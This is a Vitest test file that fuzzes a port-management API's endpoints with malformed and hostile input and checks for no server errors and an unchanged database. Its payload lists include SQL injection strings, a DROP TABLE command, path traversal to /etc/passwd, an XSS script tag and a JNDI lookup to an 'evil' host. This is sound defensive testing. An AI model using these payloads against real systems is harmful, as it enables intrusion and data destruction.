import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApi, vesselBody, type HttpAnswer, type TestApi } from './testing/test-api.ts';

// Throws malformed and hostile input at every endpoint of docs/api.md and checks two things:
// no answer is a 5xx, and the database is exactly as it was. Every request is built to be
// refused (a field the validator refuses, a duplicate key, or an id that does not exist), so any
// row that changes is a defence that failed.

const missing = 987_654_321;
const hostileStrings = [
  "' OR '1'='1",
  "'); DROP TABLE vessels; --",
  'x'.repeat(20_000),
  '\u0000',
  'ok\u0000ok',
  '\u202e\u200b\ufeff',
  '🚢'.repeat(40),
  '\ud800',
  '%00',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  '   ',
  '',
];
const hostileNumbers = [-1, 0, -1e308, 1e308, 1.5, 2 ** 53 + 1, -0.0001, 99_999_999];
const hostileShapes = [null, true, [], {}, [1, 2], { $gt: '' }, '1', 'NaN'];
const hostileValues: unknown[] = [...hostileStrings, ...hostileNumbers, ...hostileShapes];
const hostileIds = [
  '-1',
  '0',
  '1.5',
  '1e309',
  '99999999999999999999999',
  "1'%20OR%20'1'='1",
  '%00',
  '%F0%9F%9A%A2',
  'x'.repeat(3000),
  String(missing),
];
const offGlobe = [
  { lat: 90.0001, lon: 0 },
  { lat: -91, lon: 0 },
  { lat: 0, lon: 180.5 },
  { lat: 0, lon: -181 },
  { lat: 1e308, lon: -1e308 },
  { lat: '45', lon: '4' },
];

interface Endpoint {
  method: string;
  path: string;
  body?: unknown;
  query?: string[];
  /** Ids in the path: hostile ones, plus this refused-but-valid one (default: missing). */
  id?: number;
  /** Fields whose duplicate value is what gets the body refused (409)... */
  unique?: string[];
  /** ...so a mutated unique field comes with this spoiled field instead. */
  spoil?: Record<string, unknown>;
}

let t: TestApi;
let endpoints: Endpoint[];

beforeAll(async () => {
  t = await startTestApi('hostile');
  const token = t.tokens.admin;
  const make = async (path: string, body: unknown) => {
    const a = await t.request('POST', `/api/v1${path}`, { token, body });
    if (a.status !== 201) throw new Error(`${path}: ${a.status} ${JSON.stringify(a.body)}`);
    return a.body;
  };
  const vessel = await make('/vessels', vesselBody());
  const berth = await make('/berths', { code: 'H1', name: 'Quay', max_length_m: 400 });
  const waypoints = {
    type: 'LineString',
    coordinates: [
      [0, 0],
      [1, 1],
    ],
  };
  const route = await make('/routes', { code: 'R1', name: 'Route', direction: 'entry', waypoints });
  const staff = await make('/staff', { employee_no: 'H-1', name: 'Staff', role: 'pilot' });
  const call = await make('/port-calls', { vessel_id: vessel.id, eta: '2026-06-01T00:00:00Z' });
  await make('/cargo-operations', {
    port_call_id: call.id,
    direction: 'load',
    category: 'containers',
    quantity: 10,
    unit: 'teu',
  });
  const at = '2026-06-01T10:00:00Z';
  const later = '2026-06-01T12:00:00Z';
  endpoints = [
    { method: 'POST', path: '/api/v1/auth/login', body: { email: 'nobody@test.local', password: 'x' } },
    { method: 'GET', path: '/api/v1/auth/me' },
    { method: 'GET', path: '/api/v1/vessels', query: ['limit', 'offset', 'type', 'status', 'flag', 'q'] },
    // Duplicate IMO and MMSI: hostile text reaches the INSERT, which refuses it.
    {
      method: 'POST',
      path: '/api/v1/vessels',
      body: { ...vesselBody(), imo: vessel.imo, mmsi: vessel.mmsi },
    },
    { method: 'GET', path: '/api/v1/vessels/:id', id: vessel.id },
    {
      method: 'PATCH',
      path: '/api/v1/vessels/:id',
      body: { name: 'Renamed', type: 'tug', flag: 'NL', gross_tonnage: 5, length_m: 10, status: 'inactive' },
    },
    { method: 'DELETE', path: '/api/v1/vessels/:id', id: vessel.id },
    { method: 'GET', path: '/api/v1/vessels/:id/track', id: vessel.id, query: ['from', 'to', 'limit'] },
    { method: 'GET', path: '/api/v1/berths', query: ['limit', 'offset', 'q', 'min_length_m'] },
    {
      method: 'POST',
      path: '/api/v1/berths',
      body: { code: 'H1', name: 'Quay', max_length_m: 100 },
      unique: ['code'],
      spoil: { max_length_m: 0 },
    },
    { method: 'GET', path: '/api/v1/berths/:id', id: berth.id },
    { method: 'GET', path: '/api/v1/routes', query: ['limit', 'offset', 'status', 'direction'] },
    {
      method: 'POST',
      path: '/api/v1/routes',
      body: { code: 'R1', name: 'Route', direction: 'exit', waypoints, status: 'open' },
      unique: ['code'],
      spoil: { direction: 'sideways' },
    },
    { method: 'GET', path: '/api/v1/routes/:id', id: route.id },
    { method: 'PATCH', path: '/api/v1/routes/:id', body: { status: 'closed' } },
    {
      method: 'GET',
      path: '/api/v1/port-calls',
      query: ['limit', 'offset', 'status', 'vessel_id', 'berth_id'],
    },
    {
      method: 'POST',
      path: '/api/v1/port-calls',
      body: {
        vessel_id: missing,
        eta: at,
        berth_id: berth.id,
        entry_route_id: route.id,
        exit_route_id: route.id,
      },
    },
    { method: 'GET', path: '/api/v1/port-calls/:id', id: call.id },
    {
      method: 'POST',
      path: '/api/v1/port-calls/:id/events',
      body: { type: 'arrived', at, berth_id: berth.id, route_id: route.id },
    },
    {
      method: 'GET',
      path: '/api/v1/cargo-operations',
      query: ['limit', 'offset', 'status', 'category', 'port_call_id'],
    },
    {
      method: 'POST',
      path: '/api/v1/cargo-operations',
      body: { port_call_id: missing, direction: 'load', category: 'containers', quantity: 5, unit: 'teu' },
    },
    { method: 'GET', path: '/api/v1/cargo-operations/:id' },
    { method: 'POST', path: '/api/v1/cargo-operations/:id/progress', body: { quantity_delta: 1, at } },
    { method: 'PATCH', path: '/api/v1/cargo-operations/:id', body: { status: 'in_progress' } },
    { method: 'GET', path: '/api/v1/staff', query: ['limit', 'offset', 'role', 'active'] },
    {
      method: 'POST',
      path: '/api/v1/staff',
      body: { employee_no: 'H-1', name: 'Again', role: 'mooring' },
      unique: ['employee_no'],
      spoil: { role: 'captain' },
    },
    { method: 'GET', path: '/api/v1/shifts', query: ['limit', 'offset', 'at'] },
    // ends_at before starts_at: every variant is refused by validation.
    {
      method: 'POST',
      path: '/api/v1/shifts',
      body: { name: 'Night', starts_at: later, ends_at: at, requirements: { pilot: 1 } },
    },
    { method: 'GET', path: '/api/v1/shifts/:id' },
    { method: 'POST', path: '/api/v1/shifts/:id/staff', body: { staff_id: staff.id } },
    {
      method: 'GET',
      path: '/api/v1/assignments',
      query: ['limit', 'offset', 'staff_id', 'port_call_id', 'at'],
    },
    {
      method: 'POST',
      path: '/api/v1/assignments',
      body: { staff_id: missing, port_call_id: call.id, starts_at: at, ends_at: later },
    },
    // An invalid MMSI keeps every variant of the report refused.
    {
      method: 'POST',
      path: '/api/v1/positions',
      body: [
        {
          mmsi: '12345',
          ts: new Date().toISOString(),
          lat: 1,
          lon: 1,
          sog: 1,
          cog: 1,
          heading: 1,
          nav_status: 1,
        },
      ],
    },
    { method: 'GET', path: '/api/v1/positions/latest', query: ['limit', 'cursor', 'bbox'] },
    { method: 'PUT', path: '/internal/faults', body: { error_rate: 0, latency_ms: 0 } },
  ];
});
afterAll(() => t?.close());

async function snapshot(): Promise<Record<string, string>> {
  const tables = await t.pool.query<{ name: string }>(
    "SELECT tablename AS name FROM pg_tables WHERE schemaname = 'public' ORDER BY tablename",
  );
  const out: Record<string, string> = {};
  for (const { name } of tables.rows) {
    const r = await t.pool.query(
      `SELECT count(*) AS n, md5(coalesce(string_agg(x::text, '|' ORDER BY x::text), '')) AS sum FROM ${name} x`,
    );
    out[name] = `${r.rows[0].n}:${r.rows[0].sum}`;
  }
  return out;
}

/** A lone surrogate cannot be percent-encoded: send its invalid UTF-8 bytes instead. */
function encodeQuery(v: string): string {
  try {
    return encodeURIComponent(v);
  } catch {
    return '%ED%A0%80';
  }
}

function* variants(e: Endpoint): Generator<{ path: string; body?: unknown; raw?: string; type?: string }> {
  const paths = e.path.includes(':id')
    ? [...hostileIds, String(e.id ?? missing)].map((id) => e.path.replace(':id', id))
    : [e.path];
  for (const path of paths) {
    if (!e.body) yield { path };
    for (const q of e.query ?? [])
      for (const v of [...hostileStrings.slice(0, 11), ...hostileNumbers.map(String), '', '[]', 'a&a=b'])
        yield { path: `${path}?${q}=${encodeQuery(v)}` };
  }
  if (!e.body) return;
  const path = paths[paths.length - 1]!;
  for (const p of paths.slice(0, -1)) yield { path: p, body: e.body };
  yield { path, raw: '{"broken": ', type: 'application/json' };
  yield { path, raw: JSON.stringify(e.body), type: 'text/plain' };
  yield { path, raw: 'a=1&b=2', type: 'application/x-www-form-urlencoded' };
  yield { path, raw: `[${'"x",'.repeat(300_000)}"x"]`, type: 'application/json' };
  for (const whole of hostileShapes) yield { path, body: whole };
  const template = Array.isArray(e.body)
    ? (e.body[0] as Record<string, unknown>)
    : (e.body as Record<string, unknown>);
  const wrap = (o: Record<string, unknown>) => (Array.isArray(e.body) ? [o] : o);
  for (const field of Object.keys(template)) {
    const { [field]: _dropped, ...without } = template;
    yield { path, body: wrap(without) };
    const spoil = e.unique?.includes(field) ? e.spoil : {};
    for (const value of hostileValues) yield { path, body: wrap({ ...template, ...spoil, [field]: value }) };
  }
  yield { path, body: wrap({ ...template, unexpected: "' OR 1=1 --" }) };
  if (Array.isArray(e.body)) {
    const valid = { ...template, mmsi: '244000111' };
    for (const c of offGlobe) yield { path, body: [{ ...valid, ...c }] };
    yield {
      path,
      body: [
        { ...valid, ts: '2999-01-01T00:00:00Z' },
        { ...valid, ts: '1970-01-01T00:00:00Z' },
      ],
    };
  }
}

describe('hostile input', () => {
  it('never gets a 5xx and never changes the database, at any endpoint', async () => {
    const before = await snapshot();
    const failures: string[] = [];
    let sent = 0;
    const jobs = endpoints.flatMap((e) => [...variants(e)].map((v) => ({ e, v })));
    // A few at a time: enough to finish quickly, few enough not to trip connection limits.
    const worker = async () => {
      for (let job = jobs.pop(); job; job = jobs.pop()) {
        const { e, v } = job;
        const headers: Record<string, string> = v.type ? { 'content-type': v.type } : {};
        const answer: HttpAnswer = await t.request(e.method, v.path, {
          token: t.tokens.admin,
          headers,
          ...(v.body !== undefined ? { body: v.body } : {}),
          ...(v.raw !== undefined ? { raw: v.raw } : {}),
        });
        sent += 1;
        // 431 comes from Node's HTTP parser (URL over 16 KiB) before any of our code, without a body.
        const errorShape =
          answer.status < 400 || answer.status === 431 || typeof answer.body?.error === 'string';
        if (answer.status >= 500 || !errorShape)
          failures.push(
            `${e.method} ${v.path.slice(0, 80)} ${JSON.stringify(v.body ?? v.raw)?.slice(0, 120)} -> ${answer.status} ${String(JSON.stringify(answer.body)).slice(0, 200)}`,
          );
      }
    };
    await Promise.all([1, 2, 3, 4, 5, 6].map(worker));
    // The stream takes a ticket from the query: hostile tickets there.
    for (const token of hostileStrings.slice(0, 11)) {
      const answer = await t.request('GET', `/api/v1/positions/stream?ticket=${encodeQuery(token)}`);
      if (answer.status !== 401 && answer.status !== 431)
        failures.push(`stream with token ${token.slice(0, 20)} -> ${answer.status}`);
    }
    expect(failures).toEqual([]);
    expect(sent).toBeGreaterThan(2000);
    expect(await snapshot()).toEqual(before);
  }, 180_000);
});
